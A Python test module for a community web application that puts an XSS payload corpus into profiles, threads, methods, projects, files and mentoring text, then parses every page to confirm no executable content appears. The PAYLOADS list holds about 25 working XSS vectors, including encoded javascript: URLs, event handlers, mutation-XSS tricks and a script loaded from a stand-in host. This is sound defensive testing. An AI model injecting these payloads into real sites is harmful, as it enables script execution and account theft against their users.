"""An XSS corpus through every kind of text a member can write, checked in the pages.

Each payload goes into the text fields of a profile, a community, a thread and
its replies, a method and an adaptation, a project with its update, PDSA cycle
and measure, the names and descriptions of files on a method, a project and a cycle, a
mentor offer, a mentoring request and its ask — plain fields
and Markdown alike — and then every page that shows them is read as HTML. No
page may carry executable content: a script that is not ours, an event-handler
attribute, a javascript:/vbscript:/data: address, or an element that embeds
another document. The checker reads the HTML the way a browser would (entities
decoded, whitespace and control characters ignored inside a scheme).
"""

from __future__ import annotations

import io
import re
from datetime import date
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from factories import (
    adapt,
    ask,
    make_community,
    make_post,
    make_thread,
    offer,
    publish_method,
    request_for,
)
from factories.files import pdf, png
from helpers import sign_in_as

from community.accounts import services as accounts
from community.files import services as files
from community.files.owners import Owner
from community.projects import cycles
from community.projects import services as projects

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="jav&#x61;script:alert(1)">entity</a>',
    '<a href="java\nscript:alert(1)">split across lines</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">coded</a>',
    "[markdown link](javascript:alert(1))",
    "[upper case](JAVASCRIPT:alert(1))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb link](vbscript:msgbox(1))",
    "![image](javascript:alert(1))",
    '[title trick](https://example.org "onmouseover=alert(1)")',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>details</details>",
    "<<script>script>alert(1)<</script>/script>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>go</button></form>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
)
LONG = "\n\n".join(PAYLOADS)  # Markdown and long plain fields get the whole corpus
SHORT = '"><img src=x onerror=alert(1)><script>alert(1)</script>'  # titles and names


def fit(limit: int, start: int = 0) -> str:
    """As many payloads as fit in a field of `limit` characters, from the `start`th on."""
    text = ""
    for n in range(len(PAYLOADS)):
        payload = PAYLOADS[(start + n) % len(PAYLOADS)]
        if len(text) + len(payload) + 2 > limit:
            break
        text = f"{text}\n\n{payload}" if text else payload
    return text


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcdoc"}
EMBEDDING = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}
OUR_SCRIPTS = re.compile(r"^/(static|assets)/")


class ExecutableContent(HTMLParser):
    """Collects every piece of executable content in a page."""

    def __init__(self, nonce: str | None):
        super().__init__(convert_charrefs=True)
        self.nonce = nonce
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        values = {name: value or "" for name, value in attrs}
        if tag == "script":
            ours = OUR_SCRIPTS.match(values.get("src", "")) or (
                self.nonce and values.get("nonce") == self.nonce and "src" not in values
            )
            if not ours:
                self.found.append(f"<script {values}>")
        if tag in EMBEDDING:
            self.found.append(f"<{tag}>")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.found.append("<meta refresh>")
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES:
                scheme = re.sub(r"[\x00-\x20]", "", value).lower()
                if scheme.startswith(("javascript:", "vbscript:", "data:")):
                    self.found.append(f"<{tag} {name}={value!r}>")
            if name == "style" and re.search(r"javascript|expression\(|url\(", value, re.I):
                self.found.append(f"<{tag} style={value!r}>")

    handle_startendtag = handle_starttag


def executable_content(response) -> list[str]:
    policy = response.headers.get("Content-Security-Policy", "")
    nonce = re.search(r"'nonce-([^']+)'", policy)
    checker = ExecutableContent(nonce.group(1) if nonce else None)
    checker.feed(response.get_data(as_text=True))
    return checker.found


@pytest.fixture
def pages(db, make_user, make_organisation, make_project, make_measure):
    """Every kind of member-written text, holding the corpus; the pages that show it."""
    author = make_user("ada-author", name="Ada Author")
    mentor = make_user("max-mentor", name="Max Mentor", organisation=make_organisation())
    accounts.update_profile(
        author, name=f"Ada {SHORT}"[:80], job_title=SHORT, organisation_id=author.organisation_id,
        bio=LONG, tag_ids=[], other_tags="",
    )  # fmt: skip
    community = make_community(author, f"Huddle {SHORT}"[:80], members=[mentor])
    community.purpose, community.learning_question = fit(300, 2), SHORT
    thread = make_thread(author, community, f"Thread {SHORT}", LONG)
    make_post(mentor, thread, f"@{author.username} {LONG}")  # a mention: a notification
    method = publish_method(author, f"Method {SHORT}", summary=fit(600), sections={"how_to": LONG})
    adaptation = adapt(mentor, method, f"Adapted {SHORT}", context={
        "population": SHORT, "what_changed": fit(600, 8), "why": fit(600, 16)})  # fmt: skip
    project = make_project(author, title=f"Project {SHORT}", aim=fit(500, 6), problem=LONG)
    update = projects.post_update(author, project, LONG)
    measure = make_measure(project, author, [50 + n % 7 for n in range(20)], name=SHORT)
    cycle = cycles.record_cycle(author, project, cycles.CycleDetails(
        title=SHORT, change=LONG, prediction=LONG, started_on=date(2025, 2, 1),
    ))  # fmt: skip
    # Files: a name and an alt text (a picture's) hold the corpus too, on each kind of owner.
    picture = files.Upload(io.BytesIO(png()), f"{SHORT}.png", fit(300), "file_1")
    files.attach(author, Owner.of(method), [picture])
    document = files.Upload(io.BytesIO(pdf()), f"{SHORT}.pdf", "", "file_1")
    [on_project] = files.attach(author, Owner.of(project), [document])
    chart = files.Upload(io.BytesIO(png()), f"{SHORT}.png", fit(300, 3), "file_1")
    files.attach(author, Owner.of(cycle), [chart])
    offer(mentor, note=fit(1000, 4))
    mentoring_request = request_for(author, title=f"Help {SHORT}", aim=LONG)
    ask(author, mentoring_request, mentor, message=fit(1000, 12))
    db.session.commit()

    m = f"/methods/{method.id}-{method.slug}"
    p = f"/projects/{project.id}-{project.slug}"
    as_author = [
        "/", "/people", f"/people/{author.username}", f"/people/{mentor.username}",
        "/communities", f"/communities/{community.slug}", f"/communities/{community.slug}/members",
        f"/communities/{community.slug}/threads/{thread.id}-{thread.slug}",
        "/methods", m, f"{m}/print", f"{m}/lineage", f"{m}/history",
        f"/methods/{adaptation.id}-{adaptation.slug}",
        "/projects", p, f"{p}/updates", f"{p}/cycles",
        f"{p}/measures/{measure.id}", f"{p}/measures/{measure.id}/chart.svg",
        f"{p}/archive", f"{p}/delete", f"{p}/measures/{measure.id}/delete",
        f"{p}/cycles/{cycle.id}/delete", f"{p}/updates/{update.id}/delete",
        f"{m}/files", f"{m}/history/2", f"{m}/adapt", f"{p}/files", f"{p}/cycles/{cycle.id}/files",
        f"/files/{on_project.token}/remove",
        "/mentoring", f"/mentoring/requests/{mentoring_request.id}",
        f"/mentoring/requests/{mentoring_request.id}/suggestions",
        "/notifications", "/search?q=alert", "/search?q=script",
        f"/search?q={quote(SHORT)}", f"/search?q={quote(SHORT)}&type=thread",
        f"/people?topic={quote(SHORT)}", "/people?topic=alert%20script",
    ]  # fmt: skip
    as_mentor = ["/mentoring", f"/mentoring/requests/{mentoring_request.id}", "/notifications"]
    return [(author, as_author), (mentor, as_mentor)]


def test_no_page_showing_member_text_carries_executable_content(pages, make_client):
    problems, read = {}, 0
    for member, paths in pages:
        client = make_client()
        sign_in_as(client, member)
        for path in paths:
            response = client.get(path)
            assert response.status_code == 200, (path, response.status_code)
            read += 1
            if found := executable_content(response):
                problems[path] = found
    assert not problems, problems
    assert read == 44


def test_the_checker_finds_each_kind_of_executable_content():
    """The checker itself: each HTML payload, unescaped, is caught (the <style> one
    relies on a browser's namespace confusion, which the sanitiser's tests cover)."""
    for payload in PAYLOADS:
        if payload.startswith(("[", "!")) or "<style>" in payload:
            continue
        checker = ExecutableContent(nonce="ours")
        checker.feed(payload)
        assert checker.found, payload
    checker = ExecutableContent(nonce="ours")
    checker.feed('<script nonce="ours">x()</script><script src="/static/js/app.js"></script>')
    assert checker.found == []
